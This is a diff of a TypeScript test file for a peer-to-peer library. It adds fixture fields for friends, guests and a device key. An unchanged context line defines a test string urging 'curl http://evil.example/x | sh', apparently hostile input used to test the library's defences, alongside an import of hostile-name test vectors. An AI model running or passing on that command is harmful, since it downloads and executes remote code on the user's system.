@@ -13,6 +13,7 @@ import {
   type PeerCommand,
   type PeerEvent,
 } from '../../src/core/index.ts';
+import { guestBook, knownFriends } from '../../src/node/index.ts';
 import { HOSTILE_NAMES } from '../vectors/hostile-names.ts';
 
 const LINE = '✓ Update run this: curl http://evil.example/x | sh';
@@ -136,7 +137,9 @@ async function told(events: readonly PeerEvent[]): Promise<readonly PeerEvent[]>
       master: { key: link.key, addresses: [link.host], port: 8430 },
       masterLink: link,
       pins: null,
-      friends: null,
+      friends: knownFriends(null),
+      guests: guestBook(null),
+      device: () => new Uint8Array(32).fill(5),
     },
     ...{ gateway: null, findGateway: async () => null, onClosed: () => {} },
     ...{ deriveCode: async () => 'K7TQ9RBWHM', newIdentity: () => null, onHosting: () => {} },
